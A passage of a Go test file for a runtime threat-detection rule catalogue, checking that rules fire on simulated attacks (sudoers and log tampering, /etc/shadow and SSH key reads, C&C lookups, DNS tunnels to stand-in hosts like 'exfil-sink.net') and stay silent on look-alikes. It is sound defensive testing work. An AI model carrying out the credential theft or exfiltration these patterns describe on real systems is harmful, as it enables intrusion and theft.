		scenario{"a bashrc in a home directory removed", persistF, true, evs(unlinkEv(proc("rm", "/usr/bin/rm", "rm"), "/home/alice/.bashrc")), nil},
		scenario{"an APT hook dropped into apt.conf.d", persistF, true, evs(writeEv(proc("tee", "/usr/bin/tee", "tee"), "/etc/apt/apt.conf.d/99x")), nil},
		scenario{"a user systemd unit in a home directory", persistF, true,
			evs(writeEv(proc("cp", "/usr/bin/cp", "cp"), "/home/alice/.config/systemd/user/x.service")), nil},
		scenario{"cloud-init installing the default user's key at boot is not", persistF, false,
			evs(writeEv(proc("cloud-init", "/usr/bin/python3.11", "/usr/bin/python3", "/usr/bin/cloud-init", "init"), "/home/admin/.ssh/authorized_keys")), nil},
		scenario{"a dropper calling itself cloud-init is not cloud-init", persistF, true,
			evs(writeEv(proc("cloud-init", "/tmp/cloud-init", "cloud-init"), "/root/.ssh/authorized_keys")), nil},
		scenario{"apt-get's dpkg writing /etc/passwd is not", persistF, false,
			evs(writeEv(childOf(proc("useradd", "/usr/sbin/useradd", "useradd"), dpkg), "/etc/passwd")), nil},
		scenario{"passwd changing a password is not", persistF, false, evs(writeEv(proc("passwd", "/usr/bin/passwd", "passwd"), "/etc/shadow")), nil},
		scenario{"reading /etc/passwd is not", persistF, false, evs(readEv(proc("id", "/usr/bin/id", "id"), "/etc/passwd")), nil},
	)
	add(
		scenario{"/etc/sudoers written", privF, true, evs(openEv(sh(), "openat", "/etc/sudoers", oWRONLY|oAPPEND)), nil},
		scenario{"a file dropped into /etc/sudoers.d", privF, true, evs(writeEv(proc("tee", "/usr/bin/tee", "tee"), "/etc/sudoers.d/99-x")), nil},
		scenario{"a PAM module configuration moved away", privF, true, evs(renameEv(proc("mv", "/usr/bin/mv", "mv"), "renameat", "/etc/pam.d/sshd", "/tmp/p")), nil},
		scenario{"the SSM agent adding ssm-user to sudoers.d is not", privF, false,
			evs(writeEv(proc("amazon-ssm-agen", "/usr/bin/amazon-ssm-agent", "amazon-ssm-agent"), "/etc/sudoers.d/ssm-agent-users")), nil},
		scenario{"visudo is not", privF, false, evs(writeEv(proc("visudo", "/usr/sbin/visudo", "visudo"), "/etc/sudoers.tmp")), nil},
		scenario{"sudo reading sudoers is not", privF, false, evs(readEv(proc("sudo", "/usr/bin/sudo", "sudo"), "/etc/sudoers")), nil},
	)
	logrotate := proc("logrotate", "/usr/sbin/logrotate", "logrotate", "/etc/logrotate.conf")
	add(
		scenario{"auth.log truncated", logs, true, evs(openEv(sh(), "openat", "/var/log/auth.log", oWRONLY|oTRUNC)), nil},
		scenario{"wtmp removed", logs, true, evs(unlinkEv(proc("rm", "/usr/bin/rm", "rm"), "/var/log/wtmp")), nil},
		scenario{"syslog truncated with truncate(2)", logs, true, evs(truncateEv(proc("truncate", "/usr/bin/truncate", "truncate"), "truncate", "/var/log/syslog", 0)), nil},
		scenario{"a log moved out of /var/log", logs, true, evs(renameEv(proc("mv", "/usr/bin/mv", "mv"), "rename", "/var/log/secure", "/tmp/s")), nil},
		scenario{"audit rules rewritten", logs, true, evs(writeEv(proc("vi", "/usr/bin/vi", "vi"), "/etc/audit/rules.d/audit.rules")), nil},
		scenario{"a wiper renamed logrotate in /tmp", logs, true, evs(openEv(proc("logrotate", "/tmp/logrotate", "logrotate"), "openat", "/var/log/auth.log", oWRONLY|oTRUNC)), nil},
		scenario{"logrotate truncating a log is not", logs, false, evs(truncateEv(logrotate, "ftruncate", "/var/log/nginx/access.log", 0)), nil},
		scenario{"logrotate rotating a log is not", logs, false, evs(renameEv(logrotate, "rename", "/var/log/syslog", "/var/log/syslog.1")), nil},
		scenario{"nginx appending to its access log is not", logs, false, evs(openEv(nginx, "openat", "/var/log/nginx/access.log", oWRONLY|oAPPEND|oCREAT)), nil},
	)
	add(
		scenario{"cat /etc/shadow", shadow, true, evs(readEv(proc("cat", "/usr/bin/cat", "cat", "/etc/shadow"), "/etc/shadow")), nil},
		scenario{"unix_chkpwd checking a password is not", shadow, false, evs(readEv(proc("unix_chkpwd", "/usr/sbin/unix_chkpwd", "unix_chkpwd"), "/etc/shadow")), nil},
		scenario{"reading /etc/passwd is not", shadow, false, evs(readEv(proc("cat", "/usr/bin/cat", "cat"), "/etc/passwd")), nil},
		scenario{"a container reading the host's shadow through a host path mount", shadow, true,
			evs(readEv(proc("cat", "/bin/busybox", "cat", "/host/etc/shadow"), "/host/etc/shadow", inCtr)), nil},
		scenario{"a host process reading an extracted image's shadow is not", shadow, false,
			evs(readEv(proc("tar", "/usr/bin/tar", "tar"), "/srv/images/etc/shadow")), nil},
	)

	// The token is a symlink into a timestamped directory, and /var/run
	// links to /run: the kernel-resolved path is what the event carries.
	tokenPath := "/run/secrets/kubernetes.io/serviceaccount/..2026_11_26_01_00_00.123456789/token"
	add(
		scenario{"cat of a user's private key", sshKey, true, evs(readEv(proc("cat", "/usr/bin/cat", "cat", "/home/alice/.ssh/id_ed25519"), "/home/alice/.ssh/id_ed25519")), nil},
		scenario{"ssh using its key is not", sshKey, false, evs(readEv(proc("ssh", "/usr/bin/ssh", "ssh", "host"), "/root/.ssh/id_rsa")), nil},
		scenario{"reading a public key is not", sshKey, false, evs(readEv(proc("cat", "/usr/bin/cat", "cat"), "/root/.ssh/id_rsa.pub")), nil},
		scenario{"cat of the service account token in a pod", saToken, true, evs(readEv(proc("cat", "/bin/busybox", "cat", tokenPath), tokenPath, inCtr)), nil},
		scenario{"an app's client library reading its token is not", saToken, false,
			evs(readEv(proc("controller", "/manager", "/manager"), tokenPath, inCtr)), nil},
		scenario{"the Kubernetes python client reading its token is not", saToken, false,
			evs(readEv(proc("python3", "/usr/local/bin/python3.12", "python3", "operator.py"), tokenPath, inCtr)), nil},
		scenario{"a shell reading the namespace file is not", saToken, false,
			evs(readEv(sh(), "/var/run/secrets/kubernetes.io/serviceaccount/namespace", inCtr)), nil},
	)

	// Threat intelligence.
	dig := proc("dig", "/usr/bin/dig", "dig")
	curlP := proc("curl", "/usr/bin/curl", "curl")
	add(
		scenario{"a lookup of GuardDuty's C&C test domain", c2DNS, true, evs(dnsQueryEv(dig, "c2.guarddutyc2activityb.com")), nil},
		scenario{"a C&C lookup sent with write(2) on a connected socket", c2DNS, true, evs(dnsQueryEv(dig, "c2.guarddutyc2activityb.com", via("write"))), nil},
		scenario{"a C&C lookup sent over TCP with writev(2), as glibc does with use-vc", c2DNS, true, evs(dnsQueryEv(dig, "c2.guarddutyc2activityb.com", via("writev"))), nil},
		scenario{"a C&C lookup sent with sendmsg(2)", c2DNS, true, evs(dnsQueryEv(dig, "C2.GuardDutyC2ActivityB.com", via("sendmsg"))), nil},
		scenario{"a lookup of the crypto test subdomain is not C&C (it is more specific)", c2DNS, false, evs(dnsQueryEv(dig, "crypto.guarddutyc2activityb.com")), nil},
		scenario{"dig of a normal domain is not C&C", c2DNS, false, evs(dnsQueryEv(dig, "example.com")), nil},
		scenario{"a connect to a C&C address from the config map", c2IP, true, evs(connectEv(curlP, "203.0.113.10", 443)), nil},
		scenario{"a connect to a C&C IPv6 address from the config map", c2IP, true, evs(connectEv(curlP, "2001:db8::10", 443)), nil},
		scenario{"a connect to another address is not C&C", c2IP, false, evs(connectEv(curlP, "203.0.113.11", 443)), nil},
		scenario{"a lookup of a mining pool", btcDNS, true, evs(dnsQueryEv(dig, "xmr.pool.supportxmr.com")), nil},
		scenario{"a lookup of GuardDuty's crypto test domain", btcDNS, true, evs(dnsQueryEv(dig, "crypto.guarddutyc2activityb.com")), nil},
		scenario{"a lookup of a domain that only ends like a pool is not", btcDNS, false, evs(dnsQueryEv(dig, "notsupportxmr.com")), nil},
		scenario{"a connect into a cryptocurrency CIDR", btcIP, true, evs(connectEv(curlP, "203.0.113.21", 3333)), nil},
		scenario{"a connect next to a cryptocurrency CIDR is not", btcIP, false, evs(connectEv(curlP, "203.0.113.22", 3333)), nil},
		scenario{"a lookup of the abused-domain test name", abused, true, evs(dnsQueryEv(dig, "abused-rep.guarddutyc2activityb.com")), nil},
		scenario{"a lookup of a normal domain is not abused", abused, false, evs(dnsQueryEv(dig, "aws.amazon.com")), nil},
		scenario{"a lookup of the crypto-reputation test name", btcRep, true, evs(dnsQueryEv(dig, "crypto-rep.guarddutyc2activityb.com")), nil},
		scenario{"a lookup of a normal domain is not crypto reputation", btcRep, false, evs(dnsQueryEv(dig, "github.com")), nil},
		scenario{"a lookup of the malicious-reputation test name", malRep, true, evs(dnsQueryEv(dig, "malicious-rep.guarddutyc2activityb.com")), nil},
		scenario{"a lookup of a normal domain is not malicious", malRep, false, evs(dnsQueryEv(dig, "debian.org")), nil},
		scenario{"a lookup of the suspicious-reputation test name", suspRep, true, evs(dnsQueryEv(dig, "suspicious-rep.guarddutyc2activityb.com")), nil},
		scenario{"a lookup of a normal domain is not suspicious", suspRep, false, evs(dnsQueryEv(dig, "golang.org")), nil},
		scenario{"a lookup of the black-hole test domain", bhDNS, true, evs(dnsQueryEv(dig, "guarddutyblackholeactivity.com")), nil},
		scenario{"a lookup of a normal domain is not black-holed", bhDNS, false, evs(dnsQueryEv(dig, "example.org")), nil},
		scenario{"a connect to a black-hole address", bhIP, true, evs(connectEv(curlP, "198.51.100.30", 80)), nil},
		scenario{"a connect to another address is not black-holed", bhIP, false, evs(connectEv(curlP, "198.51.100.31", 80)), nil},
		scenario{"a lookup of the drop-point test domain", dropDNS, true, evs(dnsQueryEv(dig, "x.guarddutydroppointactivity.com")), nil},
		scenario{"a lookup of a normal domain is not a drop point", dropDNS, false, evs(dnsQueryEv(dig, "example.net")), nil},
		scenario{"a connect to a drop-point address", dropIP, true, evs(connectEv(curlP, "198.51.100.40", 443)), nil},
		scenario{"a connect to another address is not a drop point", dropIP, false, evs(connectEv(curlP, "198.51.100.41", 443)), nil},
		scenario{"a lookup of the phishing test domain", phish, true, evs(dnsQueryEv(dig, "guarddutyphishingactivity.com")), nil},
		scenario{"a lookup of a normal domain is not phishing", phish, false, evs(dnsQueryEv(dig, "example.com")), nil},
		scenario{"a lookup of the drive-by test domain", driveby, true, evs(dnsQueryEv(dig, "guarddutydrivebyactivity.com")), nil},
		scenario{"a lookup of a normal domain is not drive-by", driveby, false, evs(dnsQueryEv(dig, "example.com")), nil},
		scenario{"a lookup of the DGA test domain", dga, true, evs(dnsQueryEv(dig, "guarddutydgaactivity.com")), nil},
		scenario{"a lookup of a normal domain is not DGA", dga, false, evs(dnsQueryEv(dig, "example.com")), nil},
		scenario{"a connect to a Tor directory authority", tor, true, evs(connectEv(proc("tor", "/usr/bin/tor", "tor"), "128.31.0.39", 9131)), nil},
		scenario{"a directory authority testing a relay's ORPort in a renamed program", torRelay, true,
			evs(acceptEv(proc("nginx", "/usr/local/bin/nginx", "nginx"), 9001, "128.31.0.39", inCtr)), nil},
		scenario{"a web server accepting an ordinary client is no relay", torRelay, false,
			evs(acceptEv(proc("nginx", "/usr/sbin/nginx", "nginx"), 443, "198.51.100.7", inCtr)), nil},
		scenario{"a connect to a normal address is not Tor", tor, false, evs(connectEv(curlP, "93.184.216.34", 443)), nil},
		scenario{"an answer pointing an ordinary name at 169.254.169.254 is DNS rebinding", rebind, true,
			evs(dnsAnswerEv(curlP, "rebind.attacker.example", []string{"169.254.169.254"}, inCtr)), nil},
		scenario{"the instance-data name resolving to the metadata service is not", rebind, false,
			evs(dnsAnswerEv(curlP, "instance-data.ec2.internal", []string{"169.254.169.254"})), nil},
		scenario{"an ordinary answer is not rebinding", rebind, false, evs(dnsAnswerEv(curlP, "example.com", []string{"93.184.216.34"})), nil},
	)
	tunnelP := proc("dnscat", "/tmp/.d", "./.d")
	coreDNS := proc("coredns", "/coredns", "/coredns", "-conf", "/etc/coredns/Corefile")
	var tunnelEvs, shortEvs, resolverEvs []*vigilv1.Event
	for i := 0; i < 60; i++ {
		long := fmt.Sprintf("%040x.%08d.t.attacker.example", i*7919, i)
		tunnelEvs = append(tunnelEvs, dnsQueryEv(tunnelP, long, after(time.Duration(i)*200*time.Millisecond)))
		resolverEvs = append(resolverEvs, dnsQueryEv(coreDNS, long, inCtr, after(time.Duration(i)*200*time.Millisecond)))
		shortEvs = append(shortEvs, dnsQueryEv(curlP, fmt.Sprintf("api%d.svc.cluster.local", i), after(time.Duration(i)*200*time.Millisecond)))
	}
	var loopEvs, shortLoopEvs, manyDomainEvs, reputationEvs, serviceEvs, clusterEvs []*vigilv1.Event
	for i := 0; i < 24; i++ {
		at := after(time.Duration(i) * 300 * time.Millisecond)
		chunk := fmt.Sprintf("%016x%016x", uint64(i+1)*0x9e3779b97f4a7c15, uint64(i+7)*0xc2b2ae3d27d4eb4f)[:30]
		nslookup := proc("nslookup", "/usr/bin/nslookup", "nslookup", chunk+".x.exfil-sink.net")
		loopEvs = append(loopEvs, dnsQueryEv(nslookup, chunk+".x.exfil-sink.net", inCtr, at))
		shortLoopEvs = append(shortLoopEvs, dnsQueryEv(nslookup, chunk[:16]+".x.exfil-sink.net", inCtr, at))
		manyDomainEvs = append(manyDomainEvs, dnsQueryEv(curlP, fmt.Sprintf("%s.cdn%d.example.com", chunk, i%10)+fmt.Sprintf(".site%d.org", i), at))
		reputationEvs = append(reputationEvs, dnsQueryEv(proc("clamd", "/usr/sbin/clamd", "clamd"), chunk+"ab.malware.hash.cymru.com", at))
		clusterEvs = append(clusterEvs, dnsQueryEv(curlP, chunk+".headless.default.svc.cluster.local", at))
		serviceEvs = append(serviceEvs, dnsQueryEv(curlP, fmt.Sprintf("prometheus-kube-prometheus-operator-%c.monitoring.svc.cluster.local", 'a'+i), at))
	}
	add(
		scenario{"sixty distinct long names from one process in twelve seconds is a DNS tunnel", dnsTunnel, true, tunnelEvs, nil},
		scenario{"CoreDNS forwarding the same names is not", dnsTunnel, false, resolverEvs, nil},
		scenario{"many distinct short service names are not", dnsTunnel, false, shortEvs, nil},
		scenario{"a handful of long names stays below the count", dnsTunnel, false, tunnelEvs[:19], nil},
		scenario{"a loop that runs nslookup once per hex chunk is a DNS tunnel (every lookup a new process)", dnsTunnel, true, loopEvs, nil},
		scenario{"a loop's short hex names with no long label are not", dnsTunnel, false, shortLoopEvs, nil},
		scenario{"long names under many different domains are not", dnsTunnel, false, manyDomainEvs, nil},
		scenario{"hash lookups in a malware reputation zone are not", dnsTunnel, false, reputationEvs, nil},
		scenario{"long service names without digits are not", dnsTunnel, false, serviceEvs, nil},
		scenario{"long hashed names in the cluster's own zone are not", dnsTunnel, false, clusterEvs, nil},
	)
	return s
}

func TestCatalogueScenarios(t *testing.T) {
	rs := loadCatalogue(t, configMap)
	kinds := map[string]string{}
	for _, r := range rs.Rules() {
		kinds[r.Name] = r.Kind
	}
	for _, sc := range scenarios() {
		t.Run(sc.name, func(t *testing.T) {
			if _, ok := kinds[sc.rule]; !ok {
				t.Fatalf("no rule %q in the catalogue", sc.rule)
			}
			var got []*detect.Alert
			for _, a := range run(rs, sc.events) {
				if a.Rule.Name == sc.rule {
					got = append(got, a)
				}
			}
			if !sc.fire {
				if len(got) > 0 {
					t.Fatalf("%q fired on a near miss: %s", sc.rule, got[0].Output)
				}
				return
			}
			if len(got) == 0 {
				t.Fatalf("%q did not fire", sc.rule)
			}
			a := got[0]
			if a.Rule.FindingType != wantType[sc.rule] {
				t.Errorf("finding type %q, want %q", a.Rule.FindingType, wantType[sc.rule])
			}
			if a.Output == "" || strings.Contains(a.Output, "%") {
				t.Errorf("output not rendered: %q", a.Output)
			}
			if kinds[sc.rule] != "sequence" {
				return
			}
			if len(got) != 1 {
				t.Fatalf("sequence fired %d times, want once", len(got))
			}
			if len(a.Events) != len(sc.evidence) {
				t.Fatalf("sequence evidence has %d events, want %d", len(a.Events), len(sc.evidence))
			}
			for i, idx := range sc.evidence {
				if a.Events[i] != sc.events[idx] {
					t.Errorf("evidence step %d is not scenario event %d", i, idx)
				}
			}
		})
	}
}

// TestEveryRuleHasScenarios keeps the table honest: a rule added to the
// catalogue without an attack that fires it and a look-alike that does not
// fails here.
func TestEveryRuleHasScenarios(t *testing.T) {
	rs := loadCatalogue(t, configMap)
	fires, misses := map[string]int{}, map[string]int{}
	for _, sc := range scenarios() {
		if sc.fire {
			fires[sc.rule]++
		} else {
			misses[sc.rule]++
		}
	}
	for _, r := range rs.Rules() {
		if !r.Enabled {
			t.Errorf("rule %q is disabled (unsupported fields: %v)", r.Name, r.Unsupported)
			continue
		}
		if fires[r.Name] == 0 {
			t.Errorf("rule %q has no scenario that fires it", r.Name)
		}
		if misses[r.Name] == 0 {
			t.Errorf("rule %q has no near-miss scenario", r.Name)
		}
		if _, ok := wantType[r.Name]; !ok {
			t.Errorf("rule %q has no expected finding type in wantType", r.Name)
		}
	}
}

// wantType is the finding type each built-in rule must raise.
var wantType = map[string]string{
	"Reverse shell with network standard streams":                 "Execution:Runtime/ReverseShell",
	"Command output sent to a network connection":                 "Execution:Runtime/ReverseShell",
	"Shell started by a database server":                          "Execution:Runtime/DatabaseSpawnedShell",
	"Terminal shell in a container":                               "Execution:Runtime/SuspiciousShellCreated",
	"Reverse shell by duplicating a socket onto standard streams": "Execution:Runtime/ReverseShell",
	"Socket relay started a shell":                                "Execution:Runtime/ReverseShell",
	"Interactive shell on pipes":                                  "Execution:Runtime/ReverseShell",
	"Commands run by a one-line program that connected out":       "Execution:Runtime/ReverseShell",
	"Shell on a terminal served by a program that connected out":  "Execution:Runtime/ReverseShell",
	"Shell started by a web server":                               "Execution:Runtime/SuspiciousShellCreated",
	"Shell fed by a program that connected out":                   "Execution:Runtime/ReverseShell",
	"Shell piped to a network client":                             "Execution:Runtime/ReverseShell",
	"New binary executed in a container":                          "Execution:Runtime/NewBinaryExecuted",
	"Binary from the container's writable layer executed":         "Execution:Runtime/NewBinaryExecuted",
	"Binary executed from shared memory":                          "Execution:Runtime/NewBinaryExecuted",
	"New library loaded in a container":                           "Execution:Runtime/NewLibraryLoaded",
	"Network service started an interactive shell":                "Execution:Runtime/SuspiciousShellCreated",
	"Network scanner executed":                                    "Execution:Runtime/SuspiciousTool",
	"Network sniffer executed":                                    "Execution:Runtime/SuspiciousTool",
	"Pentest tool executed":                                       "Execution:Runtime/SuspiciousTool",
	"Tunnelling tool executed":                                    "Execution:Runtime/SuspiciousTool",
	"Backdoor tool executed":                                      "Execution:Runtime/SuspiciousTool",
	"Download piped into a shell":                                 "Execution:Runtime/SuspiciousCommand",
	"Decoded payload piped into a shell":                          "Execution:Runtime/SuspiciousCommand",
	"Downloaded file executed":                                    "Execution:Runtime/SuspiciousCommand",
	"Known malicious executable run":                              "Execution:Runtime/MaliciousFileExecuted",
	"Executable on your own threat list run":                      "Execution:Runtime/MaliciousFileExecuted.Custom",
	"Crypto miner executed":                                       "Impact:Runtime/CryptoMinerExecuted",
	"Fileless execution":                                          "DefenseEvasion:Runtime/FilelessExecution",
	"32-bit program executed":                                     "DefenseEvasion:Runtime/CompatModeExecution",
	"io_uring set up in a container":                              "DefenseEvasion:Runtime/IoUringUsage",
	"Process memory written through proc":                         "DefenseEvasion:Runtime/ProcessInjection.Proc",
	"Process injection through ptrace":                            "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
	"Process memory written with process_vm_writev":               "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite",
	"Anti-debugging with PTRACE_TRACEME":                          "DefenseEvasion:Runtime/PtraceAntiDebugging",
	"Kernel module load attempted":                                "DefenseEvasion:Runtime/KernelModuleLoaded",
	"Defences disabled":                                           "DefenseEvasion:Runtime/SuspiciousCommand",
	"Crontab removed":                                             "DefenseEvasion:Runtime/SuspiciousCommand",
	"Dynamic linker preload file written":                         "DefenseEvasion:Runtime/SuspiciousCommand",
	"Shell history truncated or removed":                          "DefenseEvasion:Runtime/SuspiciousCommand",
	"LD_PRELOAD set for a program":                                "DefenseEvasion:Runtime/SuspiciousCommand",
	"Program run through the dynamic loader":                      "DefenseEvasion:Runtime/SuspiciousCommand",
	"Memory made writable and executable":                         "DefenseEvasion:Runtime/MemoryMarkedExecutable",
	"Private keys or cloud secrets searched for":                  "Discovery:Runtime/SuspiciousCommand",
	"Persistence command":                                         "Persistence:Runtime/SuspiciousCommand",
	"Reconnaissance in a container":                               "Discovery:Runtime/SuspiciousCommand",
	"Cloud credentials and identity discovery":                    "Discovery:Runtime/SuspiciousCommand",
	"Instance metadata queried from a container":                  "Discovery:Runtime/SuspiciousCommand",
	"Cloud credential files read":                                 "Discovery:Runtime/SuspiciousCommand",
	"Port scan from one process":                                  "Discovery:Runtime/PortScan",
	"Raw packet socket opened":                                    "Discovery:Runtime/RawSocketCreated",
	"Cgroup release_agent opened for write":                       "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
	"Kernel hook for host execution written from a container":     "PrivilegeEscalation:Runtime/ContainerEscapeKernelHook",
	"Mount inside a container":                                    "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
	"Namespace entered from a container":                          "PrivilegeEscalation:Runtime/ContainerNamespaceEntered",
	"Container runtime socket accessed":                           "PrivilegeEscalation:Runtime/DockerSocketAccessed",
	"Runc binary opened for write":                                "PrivilegeEscalation:Runtime/RuncContainerEscape",
	"Userfaultfd used":                                            "PrivilegeEscalation:Runtime/UserfaultfdUsage",
	"Elevation to root through a setuid binary":                   "PrivilegeEscalation:Runtime/ElevationToRoot",
	"Privilege escalation command":                                "PrivilegeEscalation:Runtime/SuspiciousCommand",
	"BPF program loaded in a container":                           "PrivilegeEscalation:Runtime/BpfProgramLoadedInContainer",
	"Setuid bit set on a file":                                    "PrivilegeEscalation:Runtime/SuspiciousCommand",
	"Persistence file modified":                                   "Persistence:Runtime/SensitiveFileModified",
	"Privilege file modified":                                     "PrivilegeEscalation:Runtime/SensitiveFileModified",
	"Logs or audit configuration tampered with":                   "DefenseEvasion:Runtime/SensitiveFileModified",
	"Password hashes read":                                        "CredentialAccess:Runtime/SensitiveFileRead",
	"Private SSH key read":                                        "CredentialAccess:Runtime/SensitiveFileRead",
	"Kubernetes service account token read by a shell tool":       "CredentialAccess:Runtime/SensitiveFileRead",
	"DNS query for a command-and-control domain":                  "Backdoor:Runtime/C&CActivity.B!DNS",
	"Connection to a command-and-control address":                 "Backdoor:Runtime/C&CActivity.B",
	"DNS query for a cryptocurrency domain":                       "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
	"Connection to a cryptocurrency address":                      "CryptoCurrency:Runtime/BitcoinTool.B",
	"DNS query for an abused domain":                              "Impact:Runtime/AbusedDomainRequest.Reputation",
	"DNS query for a low-reputation cryptocurrency domain":        "Impact:Runtime/BitcoinDomainRequest.Reputation",
	"DNS query for a malicious domain":                            "Impact:Runtime/MaliciousDomainRequest.Reputation",
	"DNS query for a suspicious domain":                           "Impact:Runtime/SuspiciousDomainRequest.Reputation",
	"DNS query for a black-holed domain":                          "Trojan:Runtime/BlackholeTraffic!DNS",
	"Connection to a black-hole address":                          "Trojan:Runtime/BlackholeTraffic",
	"DNS query for a drop-point domain":                           "Trojan:Runtime/DropPoint!DNS",
	"Connection to a drop-point address":                          "Trojan:Runtime/DropPoint",
	"DNS query for a phishing domain":                             "Trojan:Runtime/PhishingDomainRequest!DNS",
	"DNS query for a drive-by download domain":                    "Trojan:Runtime/DriveBySourceTraffic!DNS",
	"DNS query for a DGA domain":                                  "Trojan:Runtime/DGADomainRequest.C!DNS",
	"Connection to a Tor directory authority":                     "UnauthorizedAccess:Runtime/TorClient",
	"Tor relay reached by a directory authority":                  "UnauthorizedAccess:Runtime/TorRelay",
	"DNS answer points at the metadata service":                   "UnauthorizedAccess:Runtime/MetadataDNSRebind",
	"DNS tunnel to one domain":                                    "Trojan:Runtime/DNSDataExfiltration",
	"Program deleted its own executable":                          "DefenseEvasion:Runtime/SelfDeletingExecutable",
	"CPU model-specific registers written":                        "Impact:Runtime/CryptoMinerExecuted",
	"Program started with no arguments":                           "PrivilegeEscalation:Runtime/EmptyArgumentExec",
	"Container credentials fetched by a command-line tool":        "CredentialAccess:Runtime/ContainerCredentialsFetched",
	"User namespace created in a container":                       "PrivilegeEscalation:Runtime/UserNamespaceCreated",
	"Immutable or append-only flag changed":                       "DefenseEvasion:Runtime/SuspiciousCommand",
	"System program or library replaced":                          "DefenseEvasion:Runtime/SystemBinaryModified",
	"Kubernetes cluster credentials read":                         "CredentialAccess:Runtime/ClusterCredentialsRead",
	"Kernel or physical memory opened":                            "CredentialAccess:Runtime/KernelMemoryAccessed",
	"Process memory read through proc":                            "CredentialAccess:Runtime/ProcessMemoryRead",
	"SSH tunnel opened":                                           "Execution:Runtime/SuspiciousTool",
	"Package installed in a running container":                    "Execution:Runtime/SuspiciousCommand",
	"Data destruction command":                                    "Impact:Runtime/DataDestruction",
	"Program disguised as a kernel thread":                        "DefenseEvasion:Runtime/KernelThreadMasquerading",
	"Another process's environment read":                          "CredentialAccess:Runtime/ProcessEnvironmentRead",
}

// guardDutySeverity is GuardDuty's default severity for each runtime type
// with a fixed one (reference: guardduty-ecs-k8s.md section 1): High 8,
// Medium 5, Low 2. Types GuardDuty scores per finding (SuspiciousTool,
// SuspiciousCommand) and Vigil's own types may use any of the three.
var guardDutySeverity = map[string]float64{
	"Backdoor:Runtime/C&CActivity.B!DNS":                         8,
	"Backdoor:Runtime/C&CActivity.B":                             8,
	"CryptoCurrency:Runtime/BitcoinTool.B!DNS":                   8,
	"CryptoCurrency:Runtime/BitcoinTool.B":                       8,
	"Impact:Runtime/AbusedDomainRequest.Reputation":              5,
	"Impact:Runtime/BitcoinDomainRequest.Reputation":             8,
	"Impact:Runtime/MaliciousDomainRequest.Reputation":           8,
	"Impact:Runtime/SuspiciousDomainRequest.Reputation":          2,
	"Trojan:Runtime/BlackholeTraffic!DNS":                        5,
	"Trojan:Runtime/BlackholeTraffic":                            5,
	"Trojan:Runtime/DGADomainRequest.C!DNS":                      8,
	"Trojan:Runtime/DriveBySourceTraffic!DNS":                    8,
	"Trojan:Runtime/DropPoint!DNS":                               5,
	"Trojan:Runtime/DropPoint":                                   5,
	"Trojan:Runtime/PhishingDomainRequest!DNS":                   8,
	"UnauthorizedAccess:Runtime/MetadataDNSRebind":               8,
	"UnauthorizedAccess:Runtime/TorClient":                       8,
	"UnauthorizedAccess:Runtime/TorRelay":                        8,
	"Execution:Runtime/NewBinaryExecuted":                        5,
	"Execution:Runtime/NewLibraryLoaded":                         5,
	"Execution:Runtime/ReverseShell":                             8,
	"Execution:Runtime/SuspiciousShellCreated":                   2,
	"Execution:Runtime/MaliciousFileExecuted":                    8,
	"Impact:Runtime/CryptoMinerExecuted":                         8,
	"DefenseEvasion:Runtime/FilelessExecution":                   5,
	"DefenseEvasion:Runtime/ProcessInjection.Proc":               8,
	"DefenseEvasion:Runtime/ProcessInjection.Ptrace":             5,
	"DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite": 8,
	"DefenseEvasion:Runtime/PtraceAntiDebugging":                 2,
	"DefenseEvasion:Runtime/KernelModuleLoaded":                  8,
	"PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified":    8,
	"PrivilegeEscalation:Runtime/ContainerMountsHostDirectory":   5,
	"PrivilegeEscalation:Runtime/DockerSocketAccessed":           5,
	"PrivilegeEscalation:Runtime/RuncContainerEscape":            8,
	"PrivilegeEscalation:Runtime/UserfaultfdUsage":               5,
	"PrivilegeEscalation:Runtime/ElevationToRoot":                5,
	"PrivilegeEscalation:Runtime/SuspiciousCommand":              5,
	"Persistence:Runtime/SuspiciousCommand":                      5,
	"Discovery:Runtime/SuspiciousCommand":                        2,
	"Persistence:Runtime/SensitiveFileModified":                  5,
	"PrivilegeEscalation:Runtime/SensitiveFileModified":          5,
	"DefenseEvasion:Runtime/SensitiveFileModified":               5,
}

var (
	findingTypeRE = regexp.MustCompile(`^(Backdoor|CryptoCurrency|CredentialAccess|DefenseEvasion|Discovery|Execution|Impact|Persistence|PrivilegeEscalation|Trojan|UnauthorizedAccess):Runtime/[A-Za-z0-9&.!]+$`)
	tacticRE      = regexp.MustCompile(`^TA00(0[1-9]|1[01]|4[0-3])$`)
	techniqueRE   = regexp.MustCompile(`^T1[0-9]{3}(\.[0-9]{3})?$`)
)

func TestEveryRuleCarriesFindingMetadata(t *testing.T) {
	rs := loadCatalogue(t, "")
	for _, r := range rs.Rules() {
		t.Run(r.Name, func(t *testing.T) {
			if !findingTypeRE.MatchString(r.FindingType) {
				t.Errorf("finding type %q is not Tactic:Runtime/Name", r.FindingType)
			}
			if want, ok := guardDutySeverity[r.FindingType]; ok && r.Severity != want {
				t.Errorf("severity %v, GuardDuty's default for %s is %v", r.Severity, r.FindingType, want)
			}
			if r.Severity != 2 && r.Severity != 5 && r.Severity != 8 {
				t.Errorf("severity %v is not one of GuardDuty's Low 2, Medium 5, High 8", r.Severity)
			}
			if len(r.MitreTactics) == 0 || len(r.MitreTechniques) == 0 {
				t.Fatalf("missing MITRE ids: tactics %v techniques %v", r.MitreTactics, r.MitreTechniques)
			}
			for _, id := range r.MitreTactics {
				if !tacticRE.MatchString(id) {
					t.Errorf("tactic %q is not an ATT&CK enterprise tactic id", id)
				}
			}
			for _, id := range r.MitreTechniques {
				if !techniqueRE.MatchString(id) {
					t.Errorf("technique %q is not an ATT&CK technique id", id)
				}
			}
			if strings.TrimSpace(r.Description) == "" {
				t.Error("no description")
			}
		})
	}
}

// TestScenariosHoldWithFalcoRulesLoaded loads upstream Falco's stable rules
// from the config map on top of the catalogue, as users migrating from
// Falco do. Falco's file redefines macros and lists the catalogue shares
// names with (open_write, spawned_process, shell_binaries, ...); every
// scenario must still come out the same.
func TestScenariosHoldWithFalcoRulesLoaded(t *testing.T) {
	dir := t.TempDir()
	for dst, src := range map[string]string{
		"10-falco_rules.yaml": "../detect/testdata/falco/falco_rules.yaml",
		"50-intel.yaml":       configMap + "/intel.yaml",
	} {
		b, err := os.ReadFile(src)
